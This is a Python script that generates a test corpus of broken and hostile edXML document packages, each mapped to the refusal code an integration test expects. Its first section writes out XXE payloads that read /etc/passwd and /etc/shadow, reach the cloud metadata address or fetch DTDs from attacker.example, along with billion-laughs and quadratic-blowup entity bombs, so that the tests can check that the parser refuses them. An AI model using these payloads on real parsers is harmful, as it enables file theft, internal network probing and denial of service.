#!/usr/bin/env python3
"""Generates the corpus of bad edXML packages under ejb/src/test/resources/edxml/bad/.

Each case is one file; expected.properties maps the file name to
    CODE|element|endpoint
where CODE is the refusal code of the problem document, element the element it must name, and
endpoint 'documents' or 'statuses' (where the integration test posts it). The files are
committed; run this again only to change the corpus:  python3 ejb/src/test/edxml-corpus/generate.py
"""
import os, shutil

NS = "http://www.mic.gov.vn/TBT/QCVN_102_2016"
SENDER, RECIPIENT, HUB = "000.00.03.H20", "000.00.04.H20", "000.00.90.G22"
OUT = os.path.join(os.path.dirname(__file__), "..", "resources", "edxml", "bad")
PDF = "JVBERi0xLjQKJSVFT0YK"

cases = []  # (name, bytes, code, element, endpoint)


def add(name, content, code, element, endpoint="documents"):
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    cases.append((name, data, code, element, endpoint))


def org(tag, code, name="Đơn vị"):
    return f"<edXML:{tag}><edXML:OrganId>{code}</edXML:OrganId><edXML:OrganName>{name}</edXML:OrganName></edXML:{tag}>"


def message_header(from_=None, to=None, extra="", replace=None):
    parts = {
        "from": org("From", SENDER) if from_ is None else from_,
        "to": org("To", RECIPIENT) if to is None else to,
        "id": f"<edXML:DocumentId>{SENDER},2026/11/20,15/UBND-VP</edXML:DocumentId>",
        "code": "<edXML:Code><edXML:CodeNumber>15</edXML:CodeNumber><edXML:CodeNotation>UBND-VP</edXML:CodeNotation></edXML:Code>",
        "prom": "<edXML:PromulgationInfo><edXML:Place>Cao Lãnh</edXML:Place><edXML:PromulgationDate>2026/11/20</edXML:PromulgationDate></edXML:PromulgationInfo>",
        "type": "<edXML:DocumentType><edXML:Type>1</edXML:Type><edXML:TypeName>Công văn</edXML:TypeName></edXML:DocumentType>",
        "subject": "<edXML:Subject>Gói tin hỏng dùng để kiểm thử</edXML:Subject>",
        "due": "<edXML:DueDate>2026/12/31</edXML:DueDate>",
        "other": "<edXML:OtherInfo><edXML:Priority>0</edXML:Priority><edXML:PageAmount>1</edXML:PageAmount></edXML:OtherInfo>",
        "steering": "<edXML:SteeringType>0</edXML:SteeringType>",
    }
    if replace:
        parts.update(replace)
    return "<edXML:MessageHeader>" + "".join(parts.values()) + extra + "</edXML:MessageHeader>"


def trace_list(traces=None, business=None):
    t = f"<edXML:TraceHeader><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:Timestamp>2026/11/20 08:30:00</edXML:Timestamp></edXML:TraceHeader>" if traces is None else traces
    b = "<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType><edXML:Paper>0</edXML:Paper></edXML:Bussiness>" if business is None else business
    return f"<edXML:TraceHeaderList>{t}{b}</edXML:TraceHeaderList>"


def reference(cid="cid:a.pdf", name="a.pdf"):
    return f"<edXML:Reference><edXML:ContentId>{cid}</edXML:ContentId><edXML:ContentType>application/pdf</edXML:ContentType><edXML:AttachmentName>{name}</edXML:AttachmentName></edXML:Reference>"


def attachment(cid="cid:a.pdf", name="a.pdf", b64=PDF, encoded=None):
    enc = f"<edXML:ContentTransferEncoded>{b64}</edXML:ContentTransferEncoded>" if encoded is None else encoded
    cid_el = "" if cid is None else f"<edXML:ContentId>{cid}</edXML:ContentId>"
    return f"<edXML:Attachment>{cid_el}<edXML:AttachmentName>{name}</edXML:AttachmentName><edXML:ContentType>application/pdf</edXML:ContentType>{enc}</edXML:Attachment>"


def document(mh=None, traces=None, manifest=None, attachments=None, header_extra="", prolog="", root=None, body=None):
    mh = message_header() if mh is None else mh
    traces = trace_list() if traces is None else traces
    manifest = reference() if manifest is None else manifest
    attachments = attachment() if attachments is None else attachments
    body = f"<edXML:edXMLBody><edXML:edXMLManifest version=\"1.0\">{manifest}</edXML:edXMLManifest></edXML:edXMLBody>" if body is None else body
    open_root = f'<edXML:edXML xmlns:edXML="{NS}">' if root is None else root
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}{open_root}\n<edXML:edXMLEnvelope><edXML:edXMLHeader>\n{mh}\n{traces}\n{header_extra}'
            f"</edXML:edXMLHeader>\n{body}</edXML:edXMLEnvelope>\n"
            f"<edXML:AttachmentEncoded>{attachments}</edXML:AttachmentEncoded>\n</edXML:edXML>\n")


def status(response_for=None, from_=None, code="03", description="Đã vào sổ", timestamp="2026/11/21 09:00:00", drop=()):
    rf = (f"<edXML:ResponseFor><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:Code>15/UBND-VP</edXML:Code>"
          f"<edXML:PromulgationDate>2026/11/20</edXML:PromulgationDate><edXML:DocumentId>{SENDER},2026/11/20,15/UBND-VP-NEVER-SENT</edXML:DocumentId></edXML:ResponseFor>") if response_for is None else response_for
    parts = {
        "rf": rf,
        "from": org("From", RECIPIENT) if from_ is None else from_,
        "code": f"<edXML:StatusCode>{code}</edXML:StatusCode>",
        "desc": f"<edXML:Description>{description}</edXML:Description>",
        "ts": f"<edXML:Timestamp>{timestamp}</edXML:Timestamp>",
    }
    for d in drop:
        parts.pop(d)
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<edXML:edXML xmlns:edXML="{NS}"><edXML:edXMLEnvelope><edXML:edXMLHeader>'
            f'<edXML:Status>{"".join(parts.values())}</edXML:Status></edXML:edXMLHeader></edXML:edXMLEnvelope></edXML:edXML>\n')


base = document()

# --- Forbidden XML constructs: no DTD is ever processed -------------------------------------------
F = "XML_CONSTRUCT_FORBIDDEN"
add("xxe-file.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<edXML:edXML ', 1).replace("Gói tin hỏng", "&xxe;"), F, "DOCTYPE")
add("xxe-http.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>\n<edXML:edXML ', 1).replace("Gói tin hỏng", "&xxe;"), F, "DOCTYPE")
add("xxe-parameter-entity.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ENTITY % dtd SYSTEM "http://attacker.example/evil.dtd"> %dtd;]>\n<edXML:edXML ', 1), F, "DOCTYPE")
add("xxe-external-dtd.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">\n<edXML:edXML ', 1), F, "DOCTYPE")
add("xxe-public-dtd.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML PUBLIC "-//X//EN" "file:///dev/random">\n<edXML:edXML ', 1), F, "DOCTYPE")
add("xxe-in-attachment.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/shadow">]>\n<edXML:edXML ', 1).replace(PDF, "&x;"), F, "DOCTYPE")
lol = "".join(f'<!ENTITY lol{i} "{"&lol%d;" % (i - 1) * 10}">' for i in range(1, 10))
add("billion-laughs.edxml", base.replace("<edXML:edXML ", f'<!DOCTYPE edXML [<!ENTITY lol0 "lol">{lol}]>\n<edXML:edXML ', 1).replace("Gói tin hỏng", "&lol9;"), F, "DOCTYPE")
add("billion-laughs-in-attribute.edxml", base.replace("<edXML:edXML ", f'<!DOCTYPE edXML [<!ENTITY lol0 "lol">{lol}]>\n<edXML:edXML ', 1).replace('version="1.0">', 'version="&lol9;">'), F, "DOCTYPE")
big = "A" * 50000
add("quadratic-blowup.edxml", base.replace("<edXML:edXML ", f'<!DOCTYPE edXML [<!ENTITY a "{big}">]>\n<edXML:edXML ', 1).replace("Gói tin hỏng", "&a;" * 2000), F, "DOCTYPE")
add("doctype-without-entities.edxml", base.replace("<edXML:edXML ", "<!DOCTYPE edXML>\n<edXML:edXML ", 1), F, "DOCTYPE")
add("doctype-internal-subset-element.edxml", base.replace("<edXML:edXML ", "<!DOCTYPE edXML [<!ELEMENT edXML ANY>]>\n<edXML:edXML ", 1), F, "DOCTYPE")
add("doctype-default-attribute.edxml", base.replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ATTLIST edXML:edXMLManifest version CDATA "9.9">]>\n<edXML:edXML ', 1), F, "DOCTYPE")
add("doctype-status.edxml", status().replace("<edXML:edXML ", '<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/hosts">]>\n<edXML:edXML ', 1).replace("Đã vào sổ", "&x;"), F, "DOCTYPE", "statuses")
add("doctype-after-comment.edxml", base.replace("<edXML:edXML ", "<!-- c -->\n<!DOCTYPE edXML [<!ENTITY e 'x'>]>\n<edXML:edXML ", 1), F, "DOCTYPE")

# --- Not well-formed -------------------------------------------------------------------------------
M = "MALFORMED_XML"
add("truncated.edxml", base[: len(base) // 2], M, "edXML")
add("truncated-in-attachment.edxml", base[: base.index(PDF) + 5], M, "edXML")
add("mismatched-end-tag.edxml", base.replace("</edXML:Subject>", "</edXML:Subjct>"), M, "edXML")
add("two-roots.edxml", base + f'<edXML:edXML xmlns:edXML="{NS}"/>', M, "edXML")
add("garbage.edxml", "this is not xml at all", M, "edXML")
add("empty.edxml", "", M, "edXML")
add("binary.edxml", bytes(range(256)) * 4, M, "edXML")
add("invalid-utf8.edxml", base.encode("utf-8").replace("hỏng".encode("utf-8"), b"h\xc3\x28ng"), M, "edXML")
add("unquoted-attribute.edxml", base.replace('version="1.0">', "version=1.0>"), M, "edXML")
add("less-than-in-text.edxml", base.replace("Gói tin hỏng", "a < b"), M, "edXML")
add("undeclared-prefix.edxml", base.replace("<edXML:Subject>", "<x:Subject>").replace("</edXML:Subject>", "</x:Subject>"), M, "edXML")
add("duplicate-attribute.edxml", base.replace('version="1.0">', 'version="1.0" version="1.1">'), M, "edXML")
add("undeclared-entity.edxml", base.replace("Gói tin hỏng", "&nbsp;"), F, "ENTITY")
add("control-character.edxml", base.replace("Gói tin hỏng", "Gói\u0001tin"), M, "edXML")
add("text-after-root.edxml", base + "trailing text", M, "edXML")
add("xml-declaration-twice.edxml", base.replace("<edXML:edXML ", '<?xml version="1.0"?><edXML:edXML ', 1), M, "edXML")

# --- Not edXML: wrong root or namespace -------------------------------------------------------------
N = "NOT_EDXML"
for name, ns in [("wrong-namespace-2015", "http://www.mic.gov.vn/TBT/QCVN_102_2015"),
                 ("wrong-namespace-trailing-slash", NS + "/"),
                 ("wrong-namespace-https", NS.replace("http:", "https:")),
                 ("wrong-namespace-case", NS.lower()),
                 ("wrong-namespace-example", "http://example.org/edxml")]:
    add(f"{name}.edxml", base.replace(f'xmlns:edXML="{NS}"', f'xmlns:edXML="{ns}"'), N, "edXML")
add("no-namespace.edxml", base.replace(f' xmlns:edXML="{NS}"', "").replace("edXML:", ""), N, "edXML")
add("wrong-root-lowercase.edxml", base.replace("edXML:edXML", "edXML:edxml"), N, "edXML")
add("wrong-root-envelope.edxml", base.replace("edXML:edXML>", "edXML:Package>").replace("<edXML:edXML ", "<edXML:Package ", 1), N, "edXML")
add("wrong-root-soap.edxml", f'<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>{base.split("?>", 1)[1]}</soap:Body></soap:Envelope>', N, "edXML")
add("wrong-root-html.edxml", "<html><body>edXML</body></html>", N, "edXML")
add("wrong-root-status-element.edxml", f'<edXML:Status xmlns:edXML="{NS}"/>', N, "edXML")

# --- Invalid packages: required elements, values, manifest, attachments ----------------------------
I = "INVALID_PACKAGE"
add("missing-header.edxml", document().replace(document().split("<edXML:edXMLHeader>")[1].split("</edXML:edXMLHeader>")[0], "").replace("<edXML:edXMLHeader></edXML:edXMLHeader>", ""), I, "edXMLEnvelope/edXMLHeader")
add("missing-message-header.edxml", document(mh=""), I, "edXMLHeader/MessageHeader")
add("missing-from.edxml", document(mh=message_header(from_="")), I, "MessageHeader/From")
add("missing-to.edxml", document(mh=message_header(to="")), I, "MessageHeader/To")
add("missing-from-and-to.edxml", document(mh=message_header(from_="", to="")), I, "MessageHeader/From")
add("from-without-organid.edxml", document(mh=message_header(from_="<edXML:From><edXML:OrganName>X</edXML:OrganName></edXML:From>")), I, "MessageHeader/From/OrganId")
add("from-blank-organid.edxml", document(mh=message_header(from_="<edXML:From><edXML:OrganId>  </edXML:OrganId></edXML:From>")), I, "MessageHeader/From/OrganId")
add("to-without-organid.edxml", document(mh=message_header(to="<edXML:To><edXML:OrganName>X</edXML:OrganName></edXML:To>")), I, "MessageHeader/To[1]/OrganId")
add("second-to-without-organid.edxml", document(mh=message_header(to=org("To", RECIPIENT) + "<edXML:To/>")), I, "MessageHeader/To[2]/OrganId")
for i, bad in enumerate(["abc", "000.00.00.g2", "1.2.3", "001.00.01.H20", "000.00.00.H2", "000-00-00-H20", "0000.00.00.H20", "000.00.00.220"]):
    add(f"from-bad-agency-code-{i + 1}.edxml", document(mh=message_header(from_=org("From", bad))), I, "MessageHeader/From/OrganId")
add("to-bad-agency-code.edxml", document(mh=message_header(to=org("To", "H20"))), I, "MessageHeader/To[1]/OrganId")
add("third-to-bad-agency-code.edxml", document(mh=message_header(to=org("To", RECIPIENT) + org("To", "000.00.05.H20") + org("To", "x.y.z"))), I, "MessageHeader/To[3]/OrganId")
prom = lambda d: {"prom": f"<edXML:PromulgationInfo><edXML:Place>X</edXML:Place><edXML:PromulgationDate>{d}</edXML:PromulgationDate></edXML:PromulgationInfo>"}
for i, d in enumerate(["2026/13/45", "yesterday", "2026/02/30", "20261120"]):
    add(f"bad-promulgation-date-{i + 1}.edxml", document(mh=message_header(replace=prom(d))), I, "MessageHeader/PromulgationInfo/PromulgationDate")
add("bad-due-date.edxml", document(mh=message_header(replace={"due": "<edXML:DueDate>soon</edXML:DueDate>"})), I, "MessageHeader/DueDate")
add("bad-document-type.edxml", document(mh=message_header(replace={"type": "<edXML:DocumentType><edXML:Type>Công văn</edXML:Type></edXML:DocumentType>"})), I, "MessageHeader/DocumentType/Type")
add("bad-priority.edxml", document(mh=message_header(replace={"other": "<edXML:OtherInfo><edXML:Priority>khẩn</edXML:Priority></edXML:OtherInfo>"})), I, "MessageHeader/OtherInfo/Priority")
add("bad-page-amount.edxml", document(mh=message_header(replace={"other": "<edXML:OtherInfo><edXML:PageAmount>1.5</edXML:PageAmount></edXML:OtherInfo>"})), I, "MessageHeader/OtherInfo/PageAmount")
add("bad-promulgation-amount.edxml", document(mh=message_header(replace={"other": "<edXML:OtherInfo><edXML:PromulgationAmount>99999999999</edXML:PromulgationAmount></edXML:OtherInfo>"})), I, "MessageHeader/OtherInfo/PromulgationAmount")
add("bad-steering-type.edxml", document(mh=message_header(replace={"steering": "<edXML:SteeringType>a</edXML:SteeringType>"})), I, "MessageHeader/SteeringType")
add("bad-response-for-date.edxml", document(mh=message_header(extra="<edXML:ResponseFor><edXML:OrganId>000.00.04.H20</edXML:OrganId><edXML:PromulgationDate>32/01/2026</edXML:PromulgationDate></edXML:ResponseFor>")), I, "MessageHeader/ResponseFor[1]/PromulgationDate")
biz = lambda t: trace_list(business=f"<edXML:Bussiness><edXML:BussinessDocType>{t}</edXML:BussinessDocType></edXML:Bussiness>")
for t in ["4", "9", "-1", "99"]:
    add(f"unknown-business-type-{t}.edxml", document(traces=biz(t)), I, "TraceHeaderList/Bussiness/BussinessDocType")
add("business-type-not-a-number.edxml", document(traces=biz("thu hồi")), I, "TraceHeaderList/Bussiness/BussinessDocType")
add("unknown-business-type-business-spelling.edxml", document(traces=trace_list(business="<edXML:Business><edXML:BusinessDocType>5</edXML:BusinessDocType></edXML:Business>")), I, "TraceHeaderList/Bussiness/BussinessDocType")
add("bad-paper-flag.edxml", document(traces=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType><edXML:Paper>có</edXML:Paper></edXML:Bussiness>")), I, "TraceHeaderList/Bussiness/Paper")
add("trace-header-without-organid.edxml", document(traces=trace_list(traces="<edXML:TraceHeader><edXML:Timestamp>2026/11/20 08:30:00</edXML:Timestamp></edXML:TraceHeader>")), I, "TraceHeaderList/TraceHeader[1]/OrganId")
add("trace-header-bad-organid.edxml", document(traces=trace_list(traces=f"<edXML:TraceHeader><edXML:OrganId>{SENDER}</edXML:OrganId></edXML:TraceHeader><edXML:TraceHeader><edXML:OrganId>hub</edXML:OrganId></edXML:TraceHeader>")), I, "TraceHeaderList/TraceHeader[2]/OrganId")
add("trace-header-bad-timestamp.edxml", document(traces=trace_list(traces=f"<edXML:TraceHeader><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:Timestamp>2026/11/20 25:61:00</edXML:Timestamp></edXML:TraceHeader>")), I, "TraceHeaderList/TraceHeader[1]/Timestamp")
# manifest and attachments
add("duplicate-contentid-in-manifest.edxml", document(manifest=reference() + reference()), I, "edXMLManifest/Reference[2]/ContentId")
add("duplicate-contentid-in-attachments.edxml", document(attachments=attachment() + attachment()), I, "AttachmentEncoded/Attachment[2]/ContentId")
add("duplicate-contentid-different-forms.edxml", document(manifest=reference() + reference("&lt;a.pdf&gt;")), I, "edXMLManifest/Reference[2]/ContentId")
add("duplicate-contentid-both.edxml", document(manifest=reference() + reference("cid:b.pdf", "b.pdf"), attachments=attachment() + attachment("a.pdf")), I, "AttachmentEncoded/Attachment[2]/ContentId")
add("attachment-not-in-manifest.edxml", document(attachments=attachment() + attachment("cid:extra.pdf", "extra.pdf")), I, "AttachmentEncoded/Attachment[2]/ContentId")
add("attachment-without-manifest.edxml", document(body="<edXML:edXMLBody/>"), I, "AttachmentEncoded/Attachment[1]/ContentId")
add("manifest-announces-missing-attachment.edxml", document(manifest=reference() + reference("cid:missing.pdf", "missing.pdf")), I, "edXMLManifest/Reference")
add("manifest-without-attachments.edxml", document(attachments=""), I, "edXMLManifest/Reference")
add("manifest-and-attachment-differ.edxml", document(attachments=attachment("cid:b.pdf", "b.pdf")), I, "AttachmentEncoded/Attachment[1]/ContentId")
add("reference-without-contentid.edxml", document(manifest="<edXML:Reference><edXML:AttachmentName>a.pdf</edXML:AttachmentName></edXML:Reference>"), I, "edXMLManifest/Reference[1]/ContentId")
add("attachment-without-contentid.edxml", document(attachments=attachment(cid=None)), I, "AttachmentEncoded/Attachment[1]/ContentId")
add("attachment-without-content.edxml", document(attachments=attachment(encoded="")), I, "Attachment[1]/ContentTransferEncoded")
B64 = "Attachment[1]/ContentTransferEncoded"
for i, bad in enumerate(["JVBERi0x!!!", "JVBERi0xLjQ*", "JVBERi0xLjQK====", "JVB=ERi0x", "Zm9v\u00e9YmFy", "-_-_", "JVBERi0xLjQKJSVFT0YK$"]):
    add(f"bad-base64-{i + 1}.edxml", document(attachments=attachment(b64=bad)), I, B64)
add("truncated-base64.edxml", document(attachments=attachment(b64="JVBERi0xLjQKJSVFT0Y")), I, B64)
add("base64-single-char.edxml", document(attachments=attachment(b64="J")), I, B64)
add("element-inside-base64.edxml", document(attachments=attachment(encoded=f"<edXML:ContentTransferEncoded>{PDF}<edXML:b/></edXML:ContentTransferEncoded>")), I, B64)
add("second-attachment-bad-base64.edxml", document(manifest=reference() + reference("cid:b.pdf", "b.pdf"), attachments=attachment() + attachment("cid:b.pdf", "b.pdf", "%%%%")), I, "Attachment[2]/ContentTransferEncoded")
# status packages
S = "statuses"
add("status-missing-response-for.edxml", status(response_for=""), I, "Status/ResponseFor", S)
add("status-response-for-without-documentid.edxml", status(response_for=f"<edXML:ResponseFor><edXML:OrganId>{SENDER}</edXML:OrganId></edXML:ResponseFor>"), I, "Status/ResponseFor/DocumentId", S)
add("status-response-for-without-organid.edxml", status(response_for="<edXML:ResponseFor><edXML:DocumentId>x</edXML:DocumentId></edXML:ResponseFor>"), I, "Status/ResponseFor/OrganId", S)
add("status-response-for-bad-organid.edxml", status(response_for="<edXML:ResponseFor><edXML:OrganId>VPCP</edXML:OrganId><edXML:DocumentId>x</edXML:DocumentId></edXML:ResponseFor>"), I, "Status/ResponseFor/OrganId", S)
add("status-missing-from.edxml", status(drop=("from",)), I, "Status/From", S)
add("status-from-bad-organid.edxml", status(from_=org("From", "000.00.04")), I, "Status/From/OrganId", S)
add("status-missing-code.edxml", status(drop=("code",)), I, "Status/StatusCode", S)
for c in ["07", "00", "99", "abc", "1 3"]:
    add(f"status-unknown-code-{c.replace(' ', '_')}.edxml", status(code=c), I, "Status/StatusCode", S)
add("status-bad-timestamp.edxml", status(timestamp="hôm qua"), I, "Status/Timestamp", S)

# --- One meaning per package: an element the format allows once, twice ----------------------------
R = "REPEATED_ELEMENT"
OTHER = "000.00.05.H20"
other_envelope = document(mh=message_header(to=org("To", OTHER))).split("<edXML:AttachmentEncoded>")[0].split(">\n", 2)[2].strip()
other_header = other_envelope.split("<edXML:edXMLBody>")[0].replace("<edXML:edXMLEnvelope>", "", 1).strip()
add("two-envelopes.edxml", base.replace("<edXML:edXMLEnvelope>", other_envelope + "\n<edXML:edXMLEnvelope>", 1), R, "edXMLEnvelope")
add("two-headers.edxml", base.replace("<edXML:edXMLHeader>", other_header + "<edXML:edXMLHeader>", 1), R, "edXMLEnvelope/edXMLHeader")
add("two-message-headers.edxml", document(mh=message_header(to=org("To", OTHER)) + message_header()), R, "edXMLHeader/MessageHeader")
add("two-from.edxml", document(mh=message_header(from_=org("From", SENDER) + org("From", OTHER))), R, "MessageHeader/From")
add("two-organids-in-from.edxml", document(mh=message_header(from_=f"<edXML:From><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:OrganId>{OTHER}</edXML:OrganId></edXML:From>")), R, "MessageHeader/From/OrganId")
add("two-organids-in-to.edxml", document(mh=message_header(to=f"<edXML:To><edXML:OrganId>{RECIPIENT}</edXML:OrganId><edXML:OrganId>{OTHER}</edXML:OrganId></edXML:To>")), R, "MessageHeader/To[1]/OrganId")
add("two-document-ids.edxml", document(mh=message_header(replace={"id": f"<edXML:DocumentId>{SENDER},2026/11/20,15/UBND-VP</edXML:DocumentId><edXML:DocumentId>{SENDER},2026/11/20,16/UBND-VP</edXML:DocumentId>"})), R, "MessageHeader/DocumentId")
add("two-subjects.edxml", document(mh=message_header(replace={"subject": "<edXML:Subject>Một</edXML:Subject><edXML:Subject>Hai</edXML:Subject>"})), R, "MessageHeader/Subject")
add("two-code-numbers.edxml", document(mh=message_header(replace={"code": "<edXML:Code><edXML:CodeNumber>15</edXML:CodeNumber><edXML:CodeNumber>16</edXML:CodeNumber><edXML:CodeNotation>UBND-VP</edXML:CodeNotation></edXML:Code>"})), R, "MessageHeader/Code/CodeNumber")
add("two-promulgation-infos.edxml", document(mh=message_header(replace={"prom": prom("2026/11/20")["prom"] + prom("2026/11/21")["prom"]})), R, "MessageHeader/PromulgationInfo")
add("two-trace-header-lists.edxml", document(header_extra=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>1</edXML:BussinessDocType></edXML:Bussiness>")), R, "edXMLHeader/TraceHeaderList")
add("two-timestamps-in-trace-header.edxml", document(traces=trace_list(traces=f"<edXML:TraceHeader><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:Timestamp>2026/11/20 08:30:00</edXML:Timestamp><edXML:Timestamp>2026/11/21 08:30:00</edXML:Timestamp></edXML:TraceHeader>")), R, "TraceHeaderList/TraceHeader[1]/Timestamp")
add("two-business-blocks.edxml", document(traces=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType></edXML:Bussiness><edXML:Bussiness><edXML:BussinessDocType>1</edXML:BussinessDocType></edXML:Bussiness>")), R, "TraceHeaderList/Bussiness")
add("business-block-in-both-spellings.edxml", document(traces=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>0</edXML:BussinessDocType></edXML:Bussiness><edXML:Business><edXML:BusinessDocType>1</edXML:BusinessDocType></edXML:Business>")), R, "TraceHeaderList/Bussiness")
add("two-business-doc-types.edxml", document(traces=biz("0</edXML:BussinessDocType><edXML:BussinessDocType>3")), R, "TraceHeaderList/Bussiness/BussinessDocType")
add("two-replacement-document-ids.edxml", document(traces=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>3</edXML:BussinessDocType><edXML:ReplacementInfoList><edXML:ReplacementInfo><edXML:DocumentId>a</edXML:DocumentId><edXML:DocumentId>b</edXML:DocumentId></edXML:ReplacementInfo></edXML:ReplacementInfoList></edXML:Bussiness>")), R, "TraceHeaderList/Bussiness/ReplacementInfoList/ReplacementInfo[1]/DocumentId")
add("two-update-flags.edxml", document(traces=trace_list(business="<edXML:Bussiness><edXML:BussinessDocType>2</edXML:BussinessDocType><edXML:BussinessDocumentInfo><edXML:DocumentInfo>1</edXML:DocumentInfo><edXML:DocumentInfo>0</edXML:DocumentInfo></edXML:BussinessDocumentInfo></edXML:Bussiness>")), R, "TraceHeaderList/Bussiness/BussinessDocumentInfo/DocumentInfo")
add("two-bodies.edxml", base.replace("<edXML:edXMLBody>", "<edXML:edXMLBody/><edXML:edXMLBody>", 1), R, "edXMLEnvelope/edXMLBody")
add("two-manifests.edxml", document(body=f'<edXML:edXMLBody><edXML:edXMLManifest version="1.0"/><edXML:edXMLManifest version="1.0">{reference()}</edXML:edXMLManifest></edXML:edXMLBody>'), R, "edXMLBody/edXMLManifest")
add("two-contentids-in-reference.edxml", document(manifest="<edXML:Reference><edXML:ContentId>cid:a.pdf</edXML:ContentId><edXML:ContentId>cid:b.pdf</edXML:ContentId></edXML:Reference>"), R, "edXMLManifest/Reference[1]/ContentId")
add("two-attachment-blocks.edxml", base.replace("<edXML:AttachmentEncoded>", "<edXML:AttachmentEncoded/><edXML:AttachmentEncoded>", 1), R, "AttachmentEncoded")
add("two-contentids-in-attachment.edxml", document(attachments=attachment().replace("<edXML:ContentId>cid:a.pdf</edXML:ContentId>", "<edXML:ContentId>cid:a.pdf</edXML:ContentId><edXML:ContentId>cid:b.pdf</edXML:ContentId>")), R, "Attachment[1]/ContentId")
add("attachment-content-twice.edxml", document(attachments=attachment(encoded=f"<edXML:ContentTransferEncoded>{PDF}</edXML:ContentTransferEncoded>" * 2)), R, "Attachment[1]/ContentTransferEncoded")
add("status-two-status-codes.edxml", status(code="03</edXML:StatusCode><edXML:StatusCode>02"), R, "Status/StatusCode", "statuses")
add("status-two-from.edxml", status(from_=org("From", RECIPIENT) + org("From", OTHER)), R, "Status/From", "statuses")
add("status-two-response-for.edxml", status(response_for=f"<edXML:ResponseFor><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:DocumentId>a</edXML:DocumentId></edXML:ResponseFor><edXML:ResponseFor><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:DocumentId>b</edXML:DocumentId></edXML:ResponseFor>"), R, "Status/ResponseFor", "statuses")
add("status-two-document-ids.edxml", status(response_for=f"<edXML:ResponseFor><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:DocumentId>a</edXML:DocumentId><edXML:DocumentId>b</edXML:DocumentId></edXML:ResponseFor>"), R, "Status/ResponseFor/DocumentId", "statuses")
add("header-both-document-and-status.edxml", document(header_extra=status().split("<edXML:edXMLHeader>")[1].split("</edXML:edXMLHeader>")[0]), I, "edXMLHeader/Status")

# --- Limits ---------------------------------------------------------------------------------------
L = "PACKAGE_LIMIT_EXCEEDED"
add("too-deep.edxml", document(mh=message_header(extra="<edXML:x>" * 40 + "</edXML:x>" * 40)), L, "x")
add("too-deep-in-envelope.edxml", document(header_extra="<edXML:y>" * 40 + "</edXML:y>" * 40), L, "y")
add("too-many-elements.edxml", document(mh=message_header(extra="<edXML:ToPlaces>" + "<edXML:Place/>" * 20001 + "</edXML:ToPlaces>")), L, "Place")
add("too-many-attachments.edxml", document(manifest="".join(reference(f"cid:{i}.pdf", f"{i}.pdf") for i in range(101)),
                                           attachments="".join(attachment(f"cid:{i}.pdf", f"{i}.pdf") for i in range(101))), L, "AttachmentEncoded/Attachment")
add("text-too-long.edxml", document(mh=message_header(replace={"subject": "<edXML:Subject>" + "x" * 1000001 + "</edXML:Subject>"})), L, "Subject")
add("cdata-too-long.edxml", document(mh=message_header(replace={"subject": "<edXML:Subject><![CDATA[" + "x" * 1000001 + "]]></edXML:Subject>"})), L, "Subject")
add("attribute-too-long.edxml", document(body=f'<edXML:edXMLBody><edXML:edXMLManifest version="{"1" * 10001}">{reference()}</edXML:edXMLManifest></edXML:edXMLBody>'), L, "edXML:edXMLManifest/@version")
add("comment-too-long.edxml", document(header_extra="<!--" + "c" * 100001 + "-->"), L, "comment")
add("comment-too-long-in-prolog.edxml", document(prolog="<!--" + "c" * 100001 + "-->\n"), L, "comment")
add("processing-instruction-too-long.edxml", document(header_extra="<?vendor " + "p" * 100001 + "?>"), L, "processing instruction")
add("comment-too-long-utf16.edxml", document(header_extra="<!--" + "c" * 100001 + "-->").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"), L, "comment")
add("doctype-with-huge-internal-subset.edxml", base.replace("<edXML:edXML ", "<!DOCTYPE edXML [<!--" + "d" * 300000 + "-->]>\n<edXML:edXML ", 1), F, "DOCTYPE")
ascii_base = "".join(ch if ord(ch) < 128 else "a" for ch in base)
add("encoding-shift-jis.edxml", ascii_base.replace('encoding="UTF-8"', 'encoding="Shift_JIS"').replace("<edXML:Subject>", "<edXML:Subject>\u6f22\u5b57 ").encode("shift_jis"), M, "edXML")
add("encoding-ebcdic.edxml", ascii_base.replace('encoding="UTF-8"', 'encoding="IBM037"').encode("cp037"), M, "edXML")

# --- Forged trace header: only the hub writes its own ---------------------------------------------
G = "FORGED_TRACE_HEADER"
hub_trace = f"<edXML:TraceHeader><edXML:OrganId>{HUB}</edXML:OrganId><edXML:Timestamp>2026/11/20 08:31:00</edXML:Timestamp></edXML:TraceHeader>"
sender_trace = f"<edXML:TraceHeader><edXML:OrganId>{SENDER}</edXML:OrganId><edXML:Timestamp>2026/11/20 08:30:00</edXML:Timestamp></edXML:TraceHeader>"
add("forged-trace-header.edxml", document(traces=trace_list(traces=sender_trace + hub_trace)), G, "TraceHeaderList/TraceHeader[2]/OrganId")
